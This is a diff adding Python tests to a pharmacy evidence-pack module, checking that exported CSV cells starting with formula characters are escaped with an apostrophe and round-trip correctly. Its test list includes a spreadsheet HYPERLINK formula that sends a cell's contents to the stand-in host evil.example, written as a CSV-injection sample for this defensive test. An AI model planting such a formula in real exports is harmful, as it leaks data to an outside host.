@@ -6,12 +6,16 @@ real sent notification is tests/its/test_evidence_pack.py.
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
+from eczane.domain import csv_cells
 from eczane.domain import evidence as ev
 from eczane.domain.audit import AuditRecord, chain_hash
 
@@ -165,3 +169,31 @@ def test_an_unreadable_member_is_named(member, data):
 def test_many_keys_are_shortened():
     keys = [("G", f"S{i}") for i in range(7)]
     assert ev._keys_text(keys).endswith("G/S4 ve 2 kutu daha")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&B9,"Tıkla")', "+1", "-1+1", "@SUM(1)",
+            "\t=1", "'=1", "\r=1"]
+
+
+@pytest.mark.parametrize("serial", FORMULAS, ids=repr)
+def test_a_serial_or_answer_that_looks_like_a_formula_leaves_the_csv_as_text(serial):
+    """A serial may start with = + - (GS1 set 82), İTS's texts come from outside: in the CSV
+    the cell starts with an apostrophe (a spreadsheet shows it, runs nothing), and the check
+    reads back the very serial the draft approved."""
+    body = ev.answers_csv([["G", serial, "", "", serial, "accepted", "", "", serial] + [""] * 4])
+    [raw] = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))[1:]
+    assert [raw[1], raw[4], raw[8]] == ["'" + serial] * 3
+    [row] = ev.answer_rows(body)
+    assert row["Seri no"] == row["Ürün"] == row["İTS açıklaması"] == serial
+    draft = {"submission": {"id": 1, "kind": "deactivation"},
+             "approved_packs": [{"gtin": "G", "serial": serial}]}
+    found = ev.check_packs({ev.DRAFT: json.dumps(draft).encode(), ev.ANSWERS: body,
+                            ev.COUNT: xlsx([["GTIN", "Seri no"], ["G", "S0"]], shared=False)}, {})
+    assert all(f.ok for f in found), [f.message for f in found]
+
+
+@given(st.text())
+def test_every_value_comes_back_from_its_cell_and_no_cell_starts_a_formula(value):
+    cell = csv_cells.to_cell(value)
+    assert csv_cells.from_cell(cell) == value
+    assert not cell.startswith(csv_cells.RUNS[:-1])
